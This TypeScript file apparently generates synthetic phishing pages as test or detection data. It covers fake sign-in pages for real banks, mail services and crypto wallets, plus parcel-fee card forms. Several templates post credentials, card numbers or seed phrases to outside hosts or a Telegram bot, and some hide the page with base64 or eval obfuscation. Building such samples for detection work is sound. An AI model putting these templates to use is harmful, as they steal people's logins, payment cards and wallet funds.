import type { Chance } from "../chance"
import { type Family, filler, freshHost, pageOf, paragraph } from "../page"

const BANKS = ["Wells Fargo", "Chase", "HSBC", "Santander", "Barclays", "Bank of America", "ING"]
const MAILS = [
  "Microsoft 365",
  "Outlook",
  "Office 365",
  "Gmail",
  "Yahoo Mail",
  "OneDrive",
  "DocuSign",
]
const URGENT = [
  "Your account has been suspended. Verify your identity to restore access.",
  "We noticed unusual activity. Please confirm your details within 24 hours.",
  "Your session has expired. Sign in again to continue.",
  "Your mailbox is almost full. Verify your password to keep receiving messages.",
  "A payment is on hold. Update your information to release it.",
]

const outside = (chance: Chance) =>
  `https://${freshHost(chance, chance.pick(["secure", "login", "verify", "id"]))}/${chance.pick(["post.php", "next", "collect", "a/b/gate.php"])}`

/** A bank's sign-in form that posts to another server. */
export const bankPhishing: Family = (chance) => {
  const bank = chance.pick(BANKS)
  const title = chance.pick([
    `${bank} - Sign In`,
    `${bank} Online Banking`,
    `Secure Login | ${bank}`,
  ])
  const user = chance.pick(["User ID", "Online ID", "Account number", "Email"])
  return {
    title,
    html: pageOf(chance, title, [
      paragraph(chance.pick(URGENT)),
      `<form method="post" action="${outside(chance)}"><label>${user} <input name="user"></label>
<label>Password <input type="password" name="pass"></label><button>Sign in</button></form>`,
      chance.is(0.5) ? paragraph(`© 2026 ${bank}. All rights reserved.`) : "",
    ]),
  }
}

/** A mail provider's sign-in page whose script sends what is typed. */
export const mailPhishing: Family = (chance) => {
  const brand = chance.pick(MAILS)
  const send = chance.pick([
    `fetch("https://api.telegram.org/bot${chance.between(1e8, 9e8)}:AA${chance.between(1e6, 9e6)}/sendMessage?text="+encodeURIComponent(e.value+":"+p.value))`,
    `fetch("${outside(chance)}",{method:"POST",mode:"no-cors",body:JSON.stringify({e:e.value,p:p.value})})`,
    `navigator.sendBeacon("${outside(chance)}", new FormData(document.forms[0]))`,
    `new Image().src="${outside(chance)}?u="+e.value+"&k="+p.value`,
  ])
  const title = chance.pick([
    "Sign in to your account",
    `${brand} sign in`,
    "Shared document",
    "Verify",
  ])
  return {
    title,
    html: pageOf(chance, title, [
      `<div class="logo">${brand}</div>`,
      paragraph(chance.pick(URGENT)),
      `<form onsubmit="go();return false"><input id="e" type="email" placeholder="Email, phone, or Skype">
<input id="p" type="password" placeholder="Password"><button>Next</button></form>`,
      `<script>var e=document.getElementById("e"),p=document.getElementById("p");function go(){${send};p.value="";alert("Wrong password")}</script>`,
    ]),
  }
}

/** Measured only. A wallet that asks for its recovery phrase. */
export const walletPhishing: Family = (chance) => {
  const wallet = chance.pick([
    "MetaMask",
    "Trust Wallet",
    "Ledger Live",
    "Phantom",
    "Coinbase Wallet",
  ])
  const title = chance.pick([
    `${wallet} | Restore`,
    "Wallet validation",
    `Connect ${wallet}`,
    "Airdrop claim",
  ])
  const ask = chance.pick([
    "secret recovery phrase",
    "seed phrase",
    "12-word recovery phrase",
    "private key",
  ])
  const input = chance.pick([
    `<textarea name="words" placeholder="Enter your ${ask}"></textarea>`,
    Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}.">`).join(
      "",
    ),
  ])
  const form = chance.is(0.5)
    ? `<form action="${outside(chance)}" method="post">${input}<button>Restore wallet</button></form>`
    : `<div id="f">${input}<button onclick="send()">Import</button></div><script>function send(){fetch("${outside(chance)}",{method:"POST",body:[...document.querySelectorAll("input,textarea")].map(x=>x.value).join(" ")})}</script>`
  const text = `Your ${wallet} must be validated. Enter your ${ask} to restore your wallet.`
  return { title, html: pageOf(chance, title, [paragraph(text), form]) }
}

/** Measured only. A parcel that waits for a small fee, paid by card. */
export const parcelPhishing: Family = (chance) => {
  const post = chance.pick(["USPS", "DHL", "Royal Mail", "FedEx", "Correos", "La Poste", "Evri"])
  const title = chance.pick([`${post} tracking`, `Your parcel is on hold`, `${post} redelivery`])
  return {
    title,
    html: pageOf(chance, title, [
      paragraph(
        `${post}: your parcel could not be delivered. Pay the customs fee of ${chance.between(1, 3)}.${chance.between(10, 99)} to schedule redelivery.`,
      ),
      `<form action="${outside(chance)}" method="post"><input name="fullname" placeholder="Full name"><input name="address" placeholder="Address">
<input name="${chance.pick(["card", "cc", "cardnumber"])}" placeholder="Card number" inputmode="numeric" maxlength="19"><input placeholder="MM/YY" name="exp"><input placeholder="${chance.pick(["CVV", "CVC", "Security code"])}" name="cvv">
<button>Pay now</button></form>`,
      paragraph(filler(chance, 2)),
    ]),
  }
}

/** Measured only. A social network's sign-in page of which a script writes the source. */
export const packedPhishing: Family = (chance) => {
  const brand = chance.pick(["Facebook", "Instagram", "Netflix", "Apple ID", "PayPal", "Amazon"])
  const page = `<h1>${brand}</h1><form method="post" action="${outside(chance)}"><input name="email"><input type="password" name="pw"><button>Log in</button></form>`
  const packed = chance.pick([
    `document.write(atob("${Buffer.from(page).toString("base64")}"))`,
    `document.write(unescape("${[...page].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}"))`,
    `document.body.innerHTML=String.fromCharCode(${[...page].map((c) => c.charCodeAt(0)).join(",")})`,
    `eval(atob("${Buffer.from(`document.body.innerHTML=${JSON.stringify(page)}`).toString("base64")}"))`,
  ])
  const title = chance.pick([`Log in to ${brand}`, `${brand}`, "Login", "Account"])
  return {
    title,
    html: `<!doctype html><title>${title}</title><body><script>${packed}</script></body>`,
  }
}
